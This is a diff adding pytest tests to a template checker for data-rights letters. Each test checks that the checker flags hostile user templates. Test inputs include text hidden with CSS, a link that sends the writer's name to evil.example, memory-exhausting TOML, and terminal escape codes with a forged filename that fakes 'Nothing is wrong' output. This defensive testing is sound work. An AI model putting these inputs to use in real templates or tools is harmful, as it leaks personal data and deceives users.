@@ -2,6 +2,7 @@
 
 import io
 import json
+import os
 import random
 import re
 import shutil
@@ -722,3 +723,65 @@ def test_the_day_of_the_check_can_be_any():
 
     later = {letter.name for _, letter in samples.letters(date(2028, 3, 1))}
     assert later == set(kinds())
+
+
+# ---------------------------------------------------------------- what a stranger's folder could do
+
+
+HIDING = ["display: none", "visibility: hidden", "font-size: 0.1pt"]
+
+
+@pytest.mark.parametrize("style", HIDING)
+def test_words_that_only_the_other_forms_would_show_are_told(tmp_path, style):
+    extra = f'<p style="{style}">I WITHDRAW EVERYTHING</p>'
+    own(
+        tmp_path,
+        "correction.html",
+        '{% extends "shipped/correction.html" %}{% block proof %}{{ super() }}'
+        + extra
+        + "{% endblock %}",
+    )
+    told = [one.finding for one in template_check.check(tmp_path, ON).problems]
+    assert any("cannot be read on paper: “WITHDRAW EVERYTHING" in one.says for one in told)
+
+
+def test_an_answer_in_the_address_of_a_link_is_told(tmp_path):
+    link = '<a href="https://evil.example/?{{ letter.writer.name }}">here</a>'
+    block = '{% extends "shipped/correction.html" %}{% block proof %}{{ super() }}<p>LINK</p>{% endblock %}'
+    own(tmp_path, "correction.html", block.replace("LINK", link))
+    told = [one.finding.says for one in template_check.check(tmp_path, ON).problems]
+    assert any("https://evil.example/" in says and "holds an answer" in says for says in told)
+    own(tmp_path, "correction.html", block.replace("LINK", '<a href="https://x.example/">x</a>'))
+    assert template_check.check(tmp_path, ON).problems == ()
+
+
+def test_a_pipe_in_place_of_a_template_is_told_and_not_waited_for(tmp_path):
+    os.mkfifo(tmp_path / "correction.html")
+    report = template_check.check(tmp_path, ON)
+    assert [one.finding.says for one in report.told] == [template_lint.NO_FILE[0]]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["x." * 100_000 + "y = 1", 'a = {"b c" . ' + "'d'." * 5_000 + "e = 1}", "n = " + "9" * 5_000],
+)
+def test_a_sheet_that_would_fill_the_memory_is_a_sentence(tmp_path, text):
+    (tmp_path / "house.toml").write_text(text)
+    (problem,) = template_check.check(tmp_path, ON).problems
+    assert problem.finding.file.endswith("house.toml")
+
+
+def test_what_is_told_gives_the_terminal_no_orders(tmp_path):
+    (tmp_path / "house.toml").write_text('"\\u001b[2Jevil\\u0007\\nNothing is wrong." = 1\n')
+    (tmp_path / "x\n22 letters were tried.\nNothing is wrong.html").write_text("{{")
+    said = list(template_check.lines(template_check.check(tmp_path, ON)))
+    assert not any(set("\x1b\x07\n") & set(line) for line in said)
+    assert not any(line.startswith(("Nothing is wrong", "22 letters were")) for line in said[:-1])
+
+
+def test_each_letter_is_told_its_own_law(tmp_path):
+    for name in ("erasure", "dissent-note", "combined", "ico-complaint"):
+        (tmp_path / f"{name}.html").write_text('{% extends "shipped/base.html" %}')
+    for one in template_check.check(tmp_path, ON).problems:
+        if "the law on which it is asked" in one.finding.says:
+            assert "rectification" not in one.finding.hint
